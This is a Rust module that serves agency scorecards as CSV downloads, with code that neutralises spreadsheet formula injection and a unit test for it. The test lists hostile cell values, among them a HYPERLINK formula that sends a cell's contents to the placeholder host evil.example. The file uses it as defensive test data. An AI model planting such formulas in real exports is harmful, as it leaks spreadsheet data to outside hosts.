//! Scorecards as CSV, for every door that offers a download: one row per
//! team (the agency's total last), UTF-8 with a byte-order mark so that
//! spreadsheets read Korean, and text cells that cannot run as formulas.

use actix_web::http::header;
use actix_web::HttpResponse;
use serde_json::Value;

/// Rows of objects as CSV: a byte-order mark (spreadsheet programs need it to
/// read UTF-8), a header of the first row's keys, nested objects flattened
/// (`team_id`, `team_name`), empty cells for nulls.
/// Scorecard rows as a CSV download named `civicdesk-{name}.csv`: nested
/// fields flattened (`team_name`), the widest row's keys as the header.
pub fn response(name: &str, rows: &[Value]) -> Result<HttpResponse, String> {
    fn cells(prefix: &str, v: &Value, out: &mut Vec<(String, String)>) {
        match v {
            Value::Object(m) => {
                for (k, v) in m {
                    let key = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}_{k}")
                    };
                    cells(&key, v, out);
                }
            }
            Value::Null => out.push((prefix.into(), String::new())),
            Value::String(s) => out.push((prefix.into(), spreadsheet_text(s))),
            other => out.push((prefix.into(), other.to_string())),
        }
    }
    let flat: Vec<Vec<(String, String)>> = rows
        .iter()
        .map(|r| {
            let mut out = Vec::new();
            cells("", r, &mut out);
            // The agency's total has no team: say so where the team's name goes.
            if !out.iter().any(|(k, _)| k == "team_name") {
                out.push(("team_name".into(), TOTAL_LABEL.into()));
            }
            out
        })
        .collect();
    // The header is the widest row's keys (a total row has no team); every
    // row is written against it.
    let header: Vec<String> = flat
        .iter()
        .max_by_key(|r| r.len())
        .map(|r| r.iter().map(|(k, _)| k.clone()).collect())
        .unwrap_or_default();
    let body = csv_bytes(&header, &flat).map_err(|e| format!("csv: {e}"))?;
    Ok(HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            header::CONTENT_DISPOSITION,
            format!("attachment; filename=\"civicdesk-{name}.csv\""),
        ))
        .body(body))
}

/// What the agency's total row is called in CSV.
const TOTAL_LABEL: &str = "합계 (total)";

/// A text cell a spreadsheet will not run as a formula: one starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
/// Numbers are written as numbers, never through here.
fn spreadsheet_text(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

fn csv_bytes(header: &[String], rows: &[Vec<(String, String)>]) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    // RFC 4180 lines end in CRLF.
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(vec![0xEF, 0xBB, 0xBF]);
    w.write_record(header)?;
    for r in rows {
        w.write_record(header.iter().map(|k| {
            r.iter()
                .find(|(key, _)| key == k)
                .map(|(_, v)| v.as_str())
                .unwrap_or("")
        }))?;
    }
    Ok(w.into_inner()?)
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_text;

    #[test]
    fn formulas_are_written_as_text() {
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(spreadsheet_text(bad), format!("'{bad}"));
        }
        assert_eq!(spreadsheet_text("도로관리과 (Roads)"), "도로관리과 (Roads)");
        assert_eq!(spreadsheet_text("2026-11"), "2026-11");
    }
}
